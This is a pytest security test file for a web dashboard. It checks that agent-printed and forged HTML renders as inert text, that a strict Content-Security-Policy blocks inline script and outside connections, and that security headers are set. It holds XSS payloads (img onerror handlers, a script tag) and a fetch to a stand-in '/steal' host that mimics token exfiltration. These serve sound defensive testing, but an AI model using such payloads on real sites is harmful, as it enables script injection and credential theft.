"""The dashboard against hostile text, in Chromium: what an agent prints (or forges on Redis) is shown
as text and never runs; the page works under its Content-Security-Policy; the token never rides in a
URL (docs/security.md, "Second round")."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx

from squad.core.settings import Settings
from squad.live.events import EventBus, progress_event
from squad.store.card_store import open_store
from support.browser import open_page, wait_js
from support.cli import run_cli, squad_env
from support.fake_agents import sandbox_toml
from support.paths import AGENTS

PY = sys.executable
TOKEN = "xss-board-token-5678"
# What the review reproduced: an image whose error handler runs script (here: marks the page).
STEP_PAYLOAD = '<img src=x onerror="document.body.dataset.pwned=1">'
WORKER_PAYLOAD = '<img src=x onerror="document.body.dataset.pwnedWorker=1">'
RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')));
"""


def test_agent_markup_in_progress_and_forged_events_never_runs_and_the_page_keeps_a_strict_csp(
        browser: Any, serve_factory: Any, settings: Settings, tmp_path: Path, start_worker: Any) -> None:
    # Given a card whose agent reports HTML as its step, a worker, and `squad serve` with a token
    gate = tmp_path / "gate"
    agent = [PY, str(AGENTS / "hostile.py"), "markup", str(gate), STEP_PAYLOAD]
    (tmp_path / "squad.toml").write_text(f'{sandbox_toml(tmp_path)}[agents.evil]\ncommand = {json.dumps(agent)}\n'
                                         'parser = "markers"\n', encoding="utf-8")
    env = squad_env(SQUAD_REDIS_URL=settings.redis_url, SQUAD_DATABASE_URL=settings.database_url,
                    SQUAD_API_TOKEN=TOKEN)
    (tmp_path / "backlog.json").write_text(json.dumps({"cards": [
        {"card_id": "X-1", "title": "<b>bold?</b> <script>document.body.dataset.pwnedTitle=1</script>",
         "agent": "evil", "labels": ["<i>label</i>"]}]}), encoding="utf-8")
    assert run_cli("backlog", "import", str(tmp_path / "backlog.json"), env=env).returncode == 0
    start_worker(env, concurrency=1)
    server = serve_factory(env)
    sockets: list[str] = []
    page, errors = open_page(browser, server.url + "/#/cards/X-1",
                             before=lambda p: (p.add_init_script(RECORD_VIOLATIONS),
                                               p.on("websocket", lambda ws: sockets.append(ws.url))))
    page.wait_for_selector("#token-dialog[open]")
    page.fill("#token-input", TOKEN)
    page.click("#token-submit")
    page.wait_for_selector('#conn[data-state="live"]')

    # When the card runs and its agent prints `::progress 50 <img src=x onerror=...>`
    res = subprocess.run([PY, "-m", "squad", "orchestrate", "--once", "--mode", "celery"], env=env,
                         capture_output=True, text=True, timeout=120, check=False)
    assert res.returncode == 0, res.stderr
    wait_js(page, "document.querySelector('#d-fields').textContent.includes('<img src=x')")
    wait_js(page, "document.querySelector('#d-log').textContent.includes('<img src=x')")
    # ... and an event forged on Redis (any local process can write there) names an HTML "worker"
    store = open_store(settings.database_url)
    bus = EventBus(settings.events, store.redis_keys)
    task_id = store.get_card("X-1").celery_task_id or ""
    bus.publish(progress_event("X-1", task_id, progress=55, current_step=STEP_PAYLOAD, elapsed=1.0,
                               worker=WORKER_PAYLOAD))
    wait_js(page, "document.querySelector('#d-fields').textContent.includes('pwnedWorker')")
    page.goto(server.url + "/#/board")
    page.wait_for_selector('[data-card-id="X-1"][data-status="IN_PROGRESS"]')
    page.click('[data-card-id="X-1"] .c-title')
    wait_js(page, "document.querySelector('#d-fields').textContent.includes('<img src=x')")
    for view in ("history", "workers", "metrics", "board"):
        page.goto(f"{server.url}/#/{view}")
        page.wait_for_selector(f"#view-{view}:not([hidden])")

    # Expect the text shown as text: no element was made of it, nothing ran
    assert page.evaluate("document.querySelectorAll('main img, #detail img, script:not([src])').length") == 0
    assert [k for k in page.evaluate("Object.keys(document.body.dataset)") if k.startswith("pwned")] == []
    assert "<script>" in (page.text_content('[data-card-id="X-1"] .c-title') or "")
    # ... the whole page works under its policy: not one violation
    assert page.evaluate("window.__csp") == []
    # ... the token never in a socket's URL (it travels as a subprotocol)
    assert sockets and all("token" not in url.lower() and TOKEN not in url for url in sockets)
    assert TOKEN not in server.log()

    # When markup does get into the page (a future bug): the policy still refuses to run it
    ran = page.evaluate("""() => new Promise((resolve) => {
        const box = document.createElement('div');
        box.innerHTML = '<img src="data:,x" onerror="document.body.dataset.injected=1">';  // fails, offline
        box.firstChild.addEventListener('error', () => setTimeout(() => resolve(document.body.dataset.injected), 200));
        document.body.append(box);
    })""")
    assert ran is None
    assert any(v.startswith("script-src") for v in page.evaluate("window.__csp"))
    # ... nor may it send the token to another server
    sent = page.evaluate("""() => fetch('http://127.0.0.2:9/steal').then(() => 'sent', () => 'refused')""")
    assert sent == "refused"
    assert any(v.startswith("connect-src") for v in page.evaluate("window.__csp"))
    gate.touch()
    store.dispose()
    assert [e for e in errors.unexpected(("status of 401", "/steal")) if "Content Security Policy" not in e] == []


def test_every_answer_carries_the_security_headers(serve_factory: Any, settings: Settings) -> None:
    # Given `squad serve`
    server = serve_factory(squad_env(SQUAD_REDIS_URL=settings.redis_url, SQUAD_DATABASE_URL=settings.database_url,
                                     SQUAD_API_TOKEN=TOKEN))
    auth = {"Authorization": f"Bearer {TOKEN}"}
    # When the page, a module, an API read, a refusal and /health are fetched
    answers = [httpx.get(server.url + "/", timeout=10), httpx.get(server.url + "/static/main.js", timeout=10),
               httpx.get(server.url + "/api/cards", headers=auth, timeout=10),
               httpx.get(server.url + "/api/cards", timeout=10), httpx.get(server.url + "/health", timeout=10),
               httpx.get(server.url + "/", headers={"Host": "evil.example"}, timeout=10)]
    # Expect each one to carry the policy and the headers the review asked for
    assert [a.status_code for a in answers] == [200, 200, 200, 401, 200, 400]
    for answer in answers:
        csp = {d.split()[0]: d.split()[1:] for d in answer.headers["content-security-policy"].split("; ")}
        assert csp["default-src"] == ["'self'"]
        assert csp["script-src"] == ["'self'"]  # no inline script, no other host
        assert csp["connect-src"] == ["'self'"]
        assert csp["frame-ancestors"] == ["'none'"]
        assert answer.headers["x-frame-options"] == "DENY"
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert answer.headers["x-content-type-options"] == "nosniff"
    # ... and the page holds no inline script or handler the policy would refuse
    page = answers[0].text
    assert re.findall(r"<script(?![^>]*\ssrc=)[^>]*>", page) == []  # every script is a file
    assert re.findall(r"<[^>]*\s(on[a-z]+|style)\s*=[^>]*>", page) == []  # no handler, no style attribute

